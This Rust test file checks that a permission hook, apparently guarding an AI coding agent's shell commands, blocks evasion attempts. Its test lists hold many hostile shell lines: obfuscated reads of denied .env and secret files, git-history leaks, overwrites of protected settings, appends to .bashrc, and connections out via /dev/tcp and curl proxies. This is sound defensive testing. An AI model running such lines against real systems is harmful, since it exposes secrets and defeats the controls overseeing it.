//! Tricks with a shell line that reading it cannot follow, under `"enforce": "calls"` and a policy without a rule about programs: whatever the
//! hook answers, nothing that is denied is read, nothing that is kept is changed, nobody outside is reached.

#![expect(clippy::unwrap_used, reason = "a step that fails fails the test")]

#[cfg(test)]
#[expect(dead_code, reason = "other tests need more of it")]
#[path = "workplace/lab.rs"]
mod lab;
#[cfg(test)]
#[expect(dead_code, reason = "other tests need more of it")]
mod workplace;

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use lab::Lab;
use serde_json::json;

const CANARY: &str = "CANARY-51c2";

/// A repository with tracked denied files, the client's settings, a listener outside and a program that leaves a mark.
struct Town {
    lab: Lab,
    listener: TcpListener,
    kept: Vec<(PathBuf, Vec<u8>)>,
}

impl Town {
    fn new(name: &str) -> Self {
        let policy = json!({"version": "1.0", "name": "effects", "enforce": "calls",
                            "files": {"deny": ["**/.env", "secrets/**"], "readOnly": ["Cargo.lock"]},
                            "domains": {"allow": ["github.com"], "deny": ["*"]}});
        let lab = Lab::new(name, &policy, &[]);
        let (repository, home) = (lab.repository(), lab.place.folder.clone());
        for folder in ["secrets", "src", ".claude"] {
            fs::create_dir_all(repository.join(folder)).unwrap();
        }
        let files = [
            (".env", CANARY),
            ("secrets/prod.txt", CANARY),
            ("Cargo.lock", "locked"),
            ("src/a.txt", "plain"),
            ("README.md", "hello"),
            (".claude/settings.json", "{}"),
        ];
        for (file, text) in files {
            fs::write(repository.join(file), format!("{text}\n")).unwrap();
        }
        let git = |arguments: &[&str]| {
            let mut git = Command::new("git");
            git.arg("-C").arg(&repository).args(["-c", "user.name=a", "-c", "user.email=a@b.example"]).args(arguments);
            assert!(git.env("HOME", &home).status().unwrap().success());
        };
        git(&["add", "-A"]);
        git(&["commit", "-qm", "one"]);
        git(&["commit", "-qm", "two", "--allow-empty"]);
        let program = home.join("bin/forbid");
        fs::create_dir_all(home.join("bin")).unwrap();
        fs::write(&program, format!("#!/bin/sh\ntouch {}/FORBIDDEN\n", home.display())).unwrap();
        fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let kept = [".aflock", ".env", "secrets/prod.txt", "Cargo.lock", ".claude/settings.json", ".git/config"];
        let kept = kept.map(|file| (repository.join(file), fs::read(repository.join(file)).unwrap())).to_vec();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self { lab, listener, kept }
    }

    /// Runs a line as the client would, in this shell, and says what took effect outside.
    fn effect(&self, shell: &str, line: &str) -> Option<String> {
        let line = line.replace("PORT", &self.listener.local_addr().unwrap().port().to_string());
        let (_, answer) = self.lab.ask(&line);
        let mut said = String::new();
        if let Some(line) = answer["updatedInput"]["command"].as_str() {
            let log = self.lab.place.folder.join("log");
            let file = fs::File::create(&log).unwrap();
            let mut shell = Command::new(shell);
            shell.args(["-c", line]).current_dir(self.lab.repository()).env_clear().stdin(Stdio::null());
            let path = format!("{}/bin:{}", self.lab.place.folder.display(), std::env::var("PATH").unwrap());
            shell.env("PATH", path).env("HOME", &self.lab.place.folder);
            shell.env("WRIT_STATE_DIR", self.lab.place.folder.join("state"));
            let mut running = shell.stdout(file.try_clone().unwrap()).stderr(file).spawn().unwrap();
            let begun = Instant::now();
            while running.try_wait().unwrap().is_none() && begun.elapsed() < Duration::from_secs(20) {
                std::thread::sleep(Duration::from_millis(5));
            }
            running.kill().unwrap_or_default();
            running.wait().unwrap();
            fs::File::open(log).unwrap().read_to_string(&mut said).unwrap_or_default();
        } else if answer["permissionDecision"].as_str().is_none() {
            return Some(format!("it would run as it is: {answer}"));
        }
        let key = fs::read_to_string(self.lab.place.folder.join("state/keys/ledger.pem")).unwrap_or_default();
        let changed = self.kept.iter().find(|(path, bytes)| fs::read(path).ok().as_ref() != Some(bytes));
        if said.contains(CANARY) {
            return Some(format!("what is denied was read: {said}"));
        }
        if said.contains("PRIVATE KEY") || (!key.is_empty() && !key.contains("PRIVATE KEY")) {
            return Some("the key of the record was touched".to_owned());
        }
        if self.lab.place.folder.join("FORBIDDEN").exists() {
            return Some("a mark was left outside".to_owned());
        }
        if self.listener.accept().is_ok() {
            return Some("somebody outside was reached".to_owned());
        }
        changed.map(|(path, _)| format!("{} was changed", path.display()))
    }

    fn none(&self, shell: &str, lines: &[&str]) {
        let effects: Vec<_> = lines.iter().filter_map(|line| Some((line, self.effect(shell, line)?))).collect();
        assert!(effects.is_empty(), "{effects:#?}");
    }
}

#[test]
fn operands_that_are_computed() {
    Town::new("effects-computed").none(
        "/bin/bash",
        &[
            "cat $(base64 -d <<< LmVudg==)",
            "echo {} > $(base64 -d <<< LmFmbG9jaw==)",
            "echo x > $(tr a-z n-za-m <<< Pnetb.ybpx)",
            "cat ~/state/keys/$(base64 -d <<< bGVkZ2VyLnBlbQ==)",
            "ls -a | xargs cat",
            "cat $(git ls-files)",
            "while read f; do cat $f; done < <(ls -a)",
            "IFS= read -rN4 y <<< .env; cat $y",
            "printf '.env\\0' | xargs -0 cat",
            "mapfile -t a < <(printf '.e%s\\n' nv); cat \"${a[0]}\"",
            "declare -n r=x; x=.en; cat ${r}v",
            "cat $'\\x2eenv'; cat $'\\56'env; cat .{e,f}nv",
            "printf -v n '.%s' env; cat $n; exec 5<$n; cat <&5",
            "(cd secrets && cat *); pushd secrets; cat p*",
            "coproc cat .env; cat <&${COPROC[0]}",
        ],
    );
}

#[test]
fn code_in_other_languages() {
    Town::new("effects-code").none(
        "/bin/bash",
        &[
            "python3 -c \"print(open('.e'+'nv').read())\"",
            "python3 -c \"open('.afl'+'ock','w').write('{}')\"",
            "python3 -c \"open('.claude/set'+'tings.json','w').write('{}')\"",
            "python3 -c \"import os;os.chdir('sec'+'rets');print(open(os.listdir('.')[0]).read())\"",
            "python3 -c \"import glob;[print(open(f).read()) for f in glob.glob('.*') if f[-1]=='v']\"",
            "python3 -c \"import socket;socket.create_connection(('127.0.0.1',PORT),2)\"",
            "echo 'cat .e\"\"nv' | rev | rev | sh",
            "perl -e 'open F,\".e\".\"nv\";print <F>'",
            "awk 'BEGIN{f=\".e\" \"nv\"; while((getline l<f)>0)print l}'",
            "awk '{f=\".afl\"; f=f \"ock\"; print > f}' README.md",
            "sed -n \"w Cargo.loc\"k README.md; sed \"s/x/x/w .afloc\"k README.md",
        ],
    );
}

#[test]
fn globs_of_all_kinds() {
    Town::new("effects-globs").none(
        "/bin/bash",
        &[
            "cat .e[[:alnum:]]v",
            "cat ~/state/[[:lower:]]*/ledger.pem",
            "echo {} > .afloc[[:alpha:]]",
            "rm -f .claud[[:lower:]]/settings.json",
            "shopt -s nocaseglob; cat .EN*",
            "shopt -s nocaseglob; tee .AFLOC* <<< x",
            "shopt -s extglob; cat .@(e|x)nv; cat !(README.md|src|Cargo.lock)",
            "shopt -s globstar dotglob; cat **/*",
            "find . -name '*flock' -delete",
            "find . -iname .AFLOCK -delete",
            "find . -name '*nv' -exec cat {} +",
            "find . -regex '.*/\\.en.' -execdir cat {} \\;",
            "find . -iname 'CARGO*' -exec truncate -s0 {} +",
            "printf '%s\\n' .e* | xargs cat",
            "tar cf - . | strings; cp -a . /tmp/all && cat /tmp/all/.env /tmp/all/secrets/*",
        ],
    );
}

#[test]
fn descriptors_links_and_variables() {
    Town::new("effects-descriptors").none(
        "/bin/bash",
        &[
            "truncate -s0 /dev/stdin < .aflock",
            "f=.afloc; tee /dev/stdin <<< x < ${f}k",
            "f=Cargo.loc; cp /dev/null /proc/self/fd/0 < ${f}k",
            "d=.claude; exec 7<$d/settings.json; echo {} > /proc/self/fd/7; echo {} > /proc/$$/fd/7",
            "f=.afloc; exec 7<${f}k; dd if=/dev/zero of=/dev/fd/7 count=1",
            "ln -s .e\"\"nv l; cat l; ln .env h; cat h; mv .env m; cat m",
            "mv secrets s; cat s/*; ln -s secrets t; cat t/*",
            "GIT_TRACE=$PWD/.aflock git status",
            "V=GIT_TRACE2_EVENT; env $V=$PWD/.aflock git status",
            "env 'BASH_FUNC_ls%%=() { forbid; }' bash -c ls",
            "BASH_ENV=<(echo forbid) bash -c true; PROMPT_COMMAND=forbid bash -ic true",
            "touch q.c; GNUMAKEFLAGS='CC=forbid' make q",
            "echo 'ls(){ forbid; }' >> ~/.claude/shell-snapshots/s.sh; echo forbid >> ~/.bashrc; echo forbid >> ~/.profile",
        ],
    );
}

#[test]
fn programs_that_run_others() {
    Town::new("effects-programs").none(
        "/bin/bash",
        &[
            "choom -n 0 forbid",
            "make SHELL=$(command -v forbid) -f - <<< 'x:; :'",
            "touch q.c; gcc -wrapper forbid -c q.c",
            "python3 -m pdb -c 'import os;os.system(\"forbid\")' -c q README.md",
            "python3 -m code <<< 'import os;os.system(\"forbid\")'",
            "ssh-agent forbid",
            "sqlite3 :memory: '.read |forbid'",
            "gcc -x c -E - <<< '#include \".env\"'",
            "as -o Cargo.lock /dev/null; ld -o Cargo.lock /dev/null",
            "git -c alias.x='!forbid' x; git -c core.pager=forbid log; git -c core.sshCommand=forbid fetch ssh://github.com/x",
            "setsid forbid; nohup forbid; timeout 1 forbid; nice forbid; env -S forbid",
            "(trap forbid EXIT); forbid & wait; { sleep 0.1; forbid; } & disown",
        ],
    );
}

/// What git keeps of denied files no mask hides, so reading the line has to stop it; what lies on disk is masked.
#[test]
fn what_git_keeps() {
    Town::new("effects-git").none(
        "/bin/bash",
        &[
            "git grep CANARY",
            "git grep --no-index CANARY",
            "git grep CANARY HEAD",
            "git grep --cached CANARY",
            "git show HEAD~1",
            "git log -p",
            "git show :0:.env",
            "git log -L1,1:secrets/prod.txt",
            "git cat-file --batch <<< HEAD:.env",
            "git worktree add -q ../w HEAD; cat ../w/secrets/prod.txt",
            "git diff 4b825dc642cb6eb9a060e54bf8d69288fbee4904 HEAD",
            "git format-patch --root HEAD --stdout",
            "git archive --format=tar HEAD | strings",
            "git stash show -p; git whatchanged -p; git blame .env",
            "git diff; git status -vv; git stash list -p",
            "git add -p < /dev/null; git commit -a --dry-run -v",
            "git rm -q --cached .env; git status -v; git commit --dry-run --verb",
        ],
    );
}

#[test]
fn hosts_from_settings() {
    Town::new("effects-hosts").none(
        "/bin/bash",
        &[
            "printf 'proxy=127.0.0.1:PORT\\n' > ~/.curlrc; curl -s -m 5 http://github.com/x",
            "printf 'proxy=127.0.0.1:PORT\\n' > src/.curlrc; CURL_HOME=src curl -s -m 5 http://github.com/x",
            "mkdir -p .git/remotes; printf 'URL: http://127.0.0.1:PORT/x\\n' > .git/remotes/e; git fetch e",
            "git config branch.main.remote http://127.0.0.1:PORT/x; git pull",
            "git request-pull HEAD~1 http://127.0.0.1:PORT/x",
            "h=127.0.0.1; curl -s -m 5 --noproxy '*' http://$h:PORT/; exec 3<>/dev/tcp/$h/PORT",
            "h=$(hostname -I | cut -d' ' -f1); curl -s -m 2 http://$h:PORT/; curl -s -m 2 http://0x7f000001:PORT/",
            "url=http://github.com/; curl -s -m 5 --resolve github.com:80:127.0.0.1 --connect-to ::127.0.0.1:PORT $url",
            "HTTP_PROXY=http://127.0.0.1:PORT http_proxy=http://127.0.0.1:PORT python3 -c 'import urllib.request as u;u.urlopen(\"http://github.com/\",timeout=3)'",
        ],
    );
}
